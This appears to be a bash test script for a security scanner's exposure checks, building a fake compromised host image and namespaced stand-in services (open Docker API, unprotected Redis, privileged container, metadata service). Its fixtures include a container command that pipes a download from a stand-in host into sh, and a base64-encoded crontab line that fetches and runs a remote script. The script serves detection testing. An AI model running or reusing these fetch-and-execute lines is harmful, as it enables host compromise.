#!/bin/bash
# Exposure (RM-EXP-001..004).
#
# 1. A disk image (--root; unprivileged is fine): Docker's state on disk
#    holds a privileged container binding / and the Docker socket (the
#    exposed-API campaigns' container: high) and a cAdvisor container with
#    read-only host mounts (low, said to be a monitoring agent's);
#    /etc/docker/daemon.json opens tcp://0.0.0.0:2375 (high: a container
#    already hands out the host); /etc/redis/redis.conf binds 0.0.0.0 with
#    protected-mode no and no password (high beside the Redis dump that
#    Spinning YARN's CONFIG SET dir leaves in the cron spool, medium
#    without it).  A clean image (Debian's
#    stock redis.conf, no containers) gives nothing.  The metadata service
#    is never probed in an image.
# 2. The live host, default options: the metadata service is not probed
#    (this is no cloud VM) and scan.skipped says so.
# 3. As root, in a network namespace of the test's own (lo up, a dummy
#    interface (or a veth pair) with 10.77.38.1, 169.254.169.254 on lo): a copy of a
#    listener named dockerd with "-H tcp://0.0.0.0:2375" (RM-EXP-001), one
#    named redis-server on 10.77.38.1:6379 whose config has bind 0.0.0.0
#    and protected-mode no (RM-EXP-002), one on 127.0.0.1:6379 with
#    requirepass and one on 10.77.38.1:6380 with requirepass (neither
#    flagged), an unknown program on 2376 (flagged as not dockerd), and a
#    stand-in metadata service: IMDSv1 gives RM-EXP-004 with --imds-probe,
#    IMDSv2 (401 without a token) nothing.  Nothing outside the namespace
#    is ever contacted.
. "$(dirname "$0")/lib.sh"
need_cmd jq

ID1=$(printf 'a%.0s' $(seq 64))
ID2=$(printf 'c%.0s' $(seq 64))
ID3=$(printf 'e%.0s' $(seq 64))

# ---- 1. a compromised image -------------------------------------------------
R=$T/bad
D=$R/var/lib/docker/containers
mkdir -p "$D/$ID1" "$D/$ID2" "$D/$ID3" "$R/etc/docker" "$R/etc/redis"
cat >"$D/$ID1/config.v2.json" <<EOF
{"StreamConfig":{},"State":{"Running":true,"Paused":false,"Pid":4242},
 "ID":"$ID1","Created":"2026-11-27T03:12:44.1Z","Path":"chroot",
 "Args":["/host","sh","-c","curl -s http://203.0.113.9/d.sh|sh"],
 "Config":{"Hostname":"x","Image":"alpine:latest","Cmd":["chroot","/host"]},
 "Name":"/reverent_mayer","Driver":"overlay2",
 "MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true,"Type":"bind"},
  "/var/run/docker.sock":{"Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true,"Type":"bind"}}}
EOF
cat >"$D/$ID1/hostconfig.json" <<'EOF'
{"Binds":["/:/host","/var/run/docker.sock:/var/run/docker.sock"],
 "NetworkMode":"host","PidMode":"host","Privileged":true,
 "CapAdd":null,"RestartPolicy":{"Name":"always","MaximumRetryCount":0}}
EOF
cat >"$D/$ID2/config.v2.json" <<EOF
{"State":{"Running":true},"ID":"$ID2",
 "Config":{"Image":"gcr.io/cadvisor/cadvisor:v0.47.2"},"Name":"/cadvisor",
 "MountPoints":{"/rootfs":{"Source":"/","Destination":"/rootfs","RW":false,"Type":"bind"},
  "/var/run":{"Source":"/var/run","Destination":"/var/run","RW":false,"Type":"bind"},
  "/sys":{"Source":"/sys","Destination":"/sys","RW":false,"Type":"bind"}}}
EOF
cat >"$D/$ID2/hostconfig.json" <<'EOF'
{"Binds":["/:/rootfs:ro","/var/run:/var/run:ro","/sys:/sys:ro",
 "/var/lib/docker/:/var/lib/docker:ro"],"Privileged":false,
 "NetworkMode":"default","PidMode":""}
EOF
# a hostile state file: deep nesting and a cut-off string
{ printf '{"ID":"%s","Config":{"Image":"x' "$ID3"; printf '[%.0s' $(seq 5000); } >"$D/$ID3/config.v2.json"
printf '{"Privileged":tru' >"$D/$ID3/hostconfig.json"
cat >"$R/etc/docker/daemon.json" <<'EOF'
{ "hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"],
  "log-driver": "json-file" }
EOF
cat >"$R/etc/redis/redis.conf" <<'EOF'
# written by a "fix it so the app can connect" change
bind 0.0.0.0
protected-mode no
port 6379
daemonize yes
EOF

# what Spinning YARN's Redis commands leave (config set dir
# /var/spool/cron/crontabs; dbfilename root; save): a Redis dump with a
# job line between the binary noise
mkdir -p "$R/var/spool/cron/crontabs"
{
	printf 'REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\xfb\x04\x00\x00\x07backup1@V\n\n\n\n'
	printf '*/2 * * * * echo Y2QxIGh0dHA6Ly9iLjktOS04LmNvbS9icnlzai9iLnNoCg==|base64 -d|bash|bash \n'
	printf '\n\n\n\xff\x8f\x1d\xb3\x00\x00\x00\x00'
} >"$R/var/spool/cron/crontabs/root"
rm_json "$T/bad.json" --root "$R" --facts
B=$T/bad.json
ctr_f() {  # ID: the RM-EXP-003 findings about it
	jq -c --arg id "$1" '[.findings[] | select(.rule.id == "RM-EXP-003" and .evidence.container_id == $id)]' "$B"
}
F=$(ctr_f "$ID1")
[ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$B" >&2; fail "expected one RM-EXP-003 for the privileged container"; }
F=$(jq -c '.[0]' <<<"$F")
F_WHAT="RM-EXP-003 privileged container"
f_eq .severity high
f_eq .evidence.privileged true
f_eq .evidence.image alpine:latest
f_eq .evidence.pid_mode host
jq -e '.evidence.host_mounts | any(startswith("/:/host rw")) and any(startswith("/var/run/docker.sock:"))' <<<"$F" >/dev/null ||
	fail "host mounts of the privileged container: $(jq -c .evidence.host_mounts <<<"$F")"
jq -e '.file.path | endswith("'"$ID1"'/hostconfig.json")' <<<"$F" >/dev/null || fail "no file path: $F"

F=$(ctr_f "$ID2")
[ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$B" >&2; fail "expected one RM-EXP-003 for cadvisor"; }
F=$(jq -c '.[0]' <<<"$F")
F_WHAT="RM-EXP-003 cadvisor"
f_eq .severity low
f_eq .evidence.monitoring_image cadvisor
jq -e '.message | test("monitoring")' <<<"$F" >/dev/null || fail "the cadvisor finding does not say it is a monitoring agent: $F"

# the hostile state files: read, bounded, said to be malformed
jq_true --arg id "$ID3" "$B" '[.facts.containers[] | select(.id == $id and .malformed)] | length == 1' \
	"the malformed container state is not in the facts as malformed"
jq_true --arg id "$ID3" "$B" '[.findings[] | select(.evidence.container_id == $id)] | length == 0' \
	"a container with unreadable state was reported"

F=$(jq -c '[.findings[] | select(.rule.id == "RM-EXP-001")]' "$B")
[ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$B" >&2; fail "expected one RM-EXP-001 from daemon.json"; }
F=$(jq -c '.[0]' <<<"$F")
F_WHAT="RM-EXP-001 daemon.json"
f_eq .severity high
f_eq .evidence.port 2375
f_eq .evidence.config /etc/docker/daemon.json
f_eq .evidence.abused_by_container "$ID1"
F=$(jq -c '[.findings[] | select(.rule.id == "RM-EXP-002")]' "$B")
[ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$B" >&2; fail "expected one RM-EXP-002 from redis.conf"; }
F=$(jq -c '.[0]' <<<"$F")
F_WHAT="RM-EXP-002 redis.conf"
f_eq .severity high
f_eq .evidence.guard none
f_eq .evidence.config_line 3
f_eq .evidence.redis_dump_in_cron /var/spool/cron/crontabs/root
# without the dump, the open config alone is medium
rm -f "$R/var/spool/cron/crontabs/root"
rm_json "$T/bad2.json" --root "$R"
jq_true "$T/bad2.json" '[.findings[] | select(.rule.id == "RM-EXP-002" and .severity == "medium")] | length == 1' \
	"the open redis.conf without a dump in cron is not medium: $(dump_findings "$T/bad2.json")"
jq_true "$B" '[.scan.skipped[] | select(.check == "imds" and (.reason | test("disk image")))] | length == 1' \
	"an image scan does not say the metadata service was not probed"
jq_true "$B" '.facts.imds.probed == false' "an image scan probed the metadata service"
jq_true "$B" '[.findings[] | select(.rule.id == "RM-EXP-004")] | length == 0' "RM-EXP-004 in an image"

# a clean image: Debian's stock redis.conf, a daemon.json without tcp://
C=$T/clean
mkdir -p "$C/etc/redis" "$C/etc/docker" "$C/var/lib/docker/containers"
cat >"$C/etc/redis/redis.conf" <<'EOF'
bind 127.0.0.1 -::1
protected-mode yes
port 6379
# requirepass foobared
EOF
echo '{"log-driver":"journald","hosts":["unix:///var/run/docker.sock"]}' >"$C/etc/docker/daemon.json"
rm_json "$T/clean.json" --root "$C" --facts
jq_true "$T/clean.json" '[.findings[] | select(.rule.category == "exposure")] | length == 0' \
	"exposure findings in a clean image: $(dump_findings "$T/clean.json")"

# ---- 2. this host, default options: no probe -------------------------------------
# On a cloud VM the default scan would ask the real metadata service: this
# test never contacts an address outside its own namespaces, so there only
# --no-imds-probe is checked.
dmi() { cat "/sys/class/dmi/id/$1" 2>/dev/null; }
if dmi sys_vendor | grep -qiE '^(Amazon EC2|Google)' ||
    dmi product_name | grep -qiE '^(Amazon EC2|Google Compute Engine)' ||
    dmi board_asset_tag | grep -qE '^i-.' ||
    dmi chassis_asset_tag | grep -qxF 7783-7084-3265-9085; then
	say "note: this is a cloud VM: the default scan (which would probe) is not run"
else
	# the default, which lib.sh turns off for every other test
	ROOKMELDER_IMDS_PROBE= rm_json "$T/host.json" --facts --cpu-window 0 --no-packages --no-pid-probe
	jq_true "$T/host.json" '.facts.imds.probed == false' "the metadata service was probed by default on a host that is no cloud VM"
	jq_true "$T/host.json" '[.scan.skipped[] | select(.check == "imds" and (.reason | test("not a cloud VM")))] | length == 1' \
		"scan.skipped does not say the metadata service was not probed: $(jq -c .scan.skipped "$T/host.json")"
fi
rm_json "$T/off.json" --facts --cpu-window 0 --no-packages --no-pid-probe --no-imds-probe
jq_true "$T/off.json" '[.scan.skipped[] | select(.check == "imds" and (.reason | test("--no-imds-probe")))] | length == 1' \
	"--no-imds-probe is not in scan.skipped"

# ---- 3. live listeners in a private network namespace (root) ---------------------
[ "$MYUID" -eq 0 ] || skip "the live part needs root (network namespaces, dummy interfaces); the image part passed"
need_cmd unshare nsenter ip
bg holder unshare -n sleep 300
HOLDER=$BG_PID
for i in $(seq 100); do
	[ "$(stat -Lc %i /proc/$HOLDER/ns/net 2>/dev/null)" != "$(stat -Lc %i /proc/self/ns/net)" ] && break
	sleep 0.02
done
NS=$(stat -Lc %i /proc/$HOLDER/ns/net)
[ "$NS" != "$(stat -Lc %i /proc/self/ns/net)" ] || fail "test setup: no private network namespace"
IN=(nsenter -t "$HOLDER" -n)
"${IN[@]}" ip link set lo up || fail "cannot bring lo up in the namespace"
# a dummy interface; without the module, a veth pair with both ends
# inside the namespace; without that, lo itself
if "${IN[@]}" ip link add rmexp0 type dummy 2>/dev/null ||
    "${IN[@]}" ip link add rmexp0 type veth peer name rmexp1 2>/dev/null; then
	"${IN[@]}" ip addr add 10.77.38.1/24 dev rmexp0 || fail "cannot add 10.77.38.1"
	"${IN[@]}" ip link set rmexp0 up
	"${IN[@]}" ip link set rmexp1 up 2>/dev/null
else
	say "note: no dummy or veth interfaces: 10.77.38.1 goes on lo"
	"${IN[@]}" ip addr add 10.77.38.1/32 dev lo || fail "cannot add 10.77.38.1"
fi
"${IN[@]}" ip addr add 169.254.169.254/32 dev lo

plain_dir || fail "no plain directory for the service copies"
cp "$HELPERS/svc-listen" "$PLAIN/dockerd"
cp "$HELPERS/svc-listen" "$PLAIN/redis-server"
cp "$HELPERS/svc-listen" "$PLAIN/apiproxy"
printf 'bind 0.0.0.0\nprotected-mode no\nport 6379\n' >"$PLAIN/open.conf"
printf 'bind 127.0.0.1\nport 6379\nrequirepass "s3cr3t pass"\n' >"$PLAIN/safe.conf"
printf 'bind 0.0.0.0\nprotected-mode no\nport 6380\nuser default on #%s ~* +@all\n' \
	"$(printf '%064d' 0)" >"$PLAIN/acl.conf"

bg dockerd env SVC_LISTEN=0.0.0.0:2375 "${IN[@]}" "$PLAIN/dockerd" -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock
wait_ready dockerd; DOCKERD=$BG_PID
bg ropen env SVC_LISTEN=10.77.38.1:6379 "${IN[@]}" "$PLAIN/redis-server" "$PLAIN/open.conf"
wait_ready ropen; ROPEN=$BG_PID
bg rsafe env SVC_LISTEN=127.0.0.1:6379 "${IN[@]}" "$PLAIN/redis-server" "$PLAIN/safe.conf"
wait_ready rsafe; RSAFE=$BG_PID
bg racl env SVC_LISTEN=10.77.38.1:6380 "${IN[@]}" "$PLAIN/redis-server" "$PLAIN/acl.conf"
wait_ready racl; RACL=$BG_PID
bg proxy env SVC_LISTEN=10.77.38.1:2376 "${IN[@]}" "$PLAIN/apiproxy" --forward /run/docker.sock
wait_ready proxy; PROXY=$BG_PID
bg imds "${IN[@]}" "$HELPERS/imds" v1
wait_ready imds

RM_WRAP=("${IN[@]}")
rm_json "$T/v1.json" --facts --cpu-window 0 --no-packages --no-pid-probe --imds-probe
RM_WRAP=()
S=$T/v1.json
expect_finding "$S" RM-EXP-001 "$DOCKERD" medium
f_eq .evidence.port 2375
f_eq .evidence.address 0.0.0.0
f_eq .evidence.netns "$NS"
f_eq .evidence.genuine true
f_eq .evidence.guard none
f_eq .process.executable "$PLAIN/dockerd"
f_eq .evidence.setting "-H tcp://0.0.0.0:2375"
jq -e '.remediation | test("127.0.0.1") and test("tlsverify")' <<<"$F" >/dev/null || fail "RM-EXP-001 remediation: $(jq -r .remediation <<<"$F")"
expect_finding "$S" RM-EXP-001 "$PROXY" medium
f_eq .confidence low
f_eq .evidence.genuine false
expect_finding "$S" RM-EXP-002 "$ROPEN" medium
f_eq .evidence.address 10.77.38.1
f_eq .evidence.config "$PLAIN/open.conf"
f_eq .evidence.config_line 2
f_eq .confidence high
no_finding "$S" RM-EXP-002 "$RSAFE"
no_finding "$S" RM-EXP-002 "$RACL"
jq_true --argjson p "$RSAFE" "$S" '[.facts.services[] | select(.pid == $p and .loopback and .kind == "redis")] | length == 1' \
	"the loopback redis is not in the facts as loopback"
jq_true --argjson p "$RACL" "$S" '[.facts.services[] | select(.pid == $p and .guard == "on")] | length == 1' \
	"the redis with an ACL password is not judged protected"
F=$(jq -c '[.findings[] | select(.rule.id == "RM-EXP-004")]' "$S")
[ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$S" >&2; jq -c .facts.imds "$S" >&2; fail "expected one RM-EXP-004 with IMDSv1"; }
F=$(jq -c '.[0]' <<<"$F")
F_WHAT=RM-EXP-004
f_eq .severity medium
f_eq .evidence.http_status 200
f_eq .evidence.server EC2ws
f_eq .destination.ip 169.254.169.254
jq -e '.remediation | test("http-tokens required")' <<<"$F" >/dev/null || fail "RM-EXP-004 remediation: $F"
jq_true "$S" '.facts.imds.ms <= 1000' "the probe took $(jq .facts.imds.ms "$S") ms"

# IMDSv2: a GET without a token gets 401: nothing to report
kill "${READY[1]}" 2>/dev/null
for i in $(seq 100); do kill -0 "${READY[1]}" 2>/dev/null || break; sleep 0.02; done
bg imds2 "${IN[@]}" "$HELPERS/imds" v2
wait_ready imds2
RM_WRAP=("${IN[@]}")
rm_json "$T/v2.json" --facts --cpu-window 0 --no-packages --no-pid-probe --imds-probe
RM_WRAP=()
jq_true "$T/v2.json" '.facts.imds.probed and .facts.imds.http_status == 401' \
	"IMDSv2 stand-in: $(jq -c .facts.imds "$T/v2.json")"
jq_true "$T/v2.json" '[.findings[] | select(.rule.id == "RM-EXP-004")] | length == 0' "RM-EXP-004 with IMDSv2"

# nothing listens: the probe fails fast and says so
kill "${READY[1]}" 2>/dev/null
for i in $(seq 100); do kill -0 "${READY[1]}" 2>/dev/null || break; sleep 0.02; done
RM_WRAP=("${IN[@]}")
rm_json "$T/none.json" --facts --cpu-window 0 --no-packages --no-pid-probe --imds-probe
RM_WRAP=()
jq_true "$T/none.json" '.facts.imds.probed and .facts.imds.http_status == -1 and .facts.imds.ms <= 1000' \
	"no metadata service: $(jq -c .facts.imds "$T/none.json")"
finish
